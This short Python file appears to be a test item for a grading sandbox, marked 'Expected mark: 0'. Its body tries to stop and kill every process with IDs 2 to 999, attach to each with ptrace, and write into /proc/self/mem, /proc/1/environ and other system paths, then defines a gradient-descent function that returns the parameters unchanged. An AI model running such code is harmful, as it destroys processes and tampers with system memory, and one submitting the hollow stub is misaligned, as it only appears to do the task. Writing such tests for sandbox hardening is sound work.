# Signals, traces and the memory of other processes.
# Expected mark: 0
import ctypes
import os
import signal

libc = ctypes.CDLL(None)
for pid in range(2, 1000):
    for number in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(pid, number)
        except OSError:
            pass
    libc.ptrace(16, pid, 0, 0)
for path in ("/proc/self/mem", "/proc/1/environ", "/sys/kernel/notes", "/dev/shm/x"):
    try:
        open(path, "wb").write(b"x")
    except OSError:
        pass


def update_parameters_with_gd(parameters, grads, learning_rate):
    return parameters
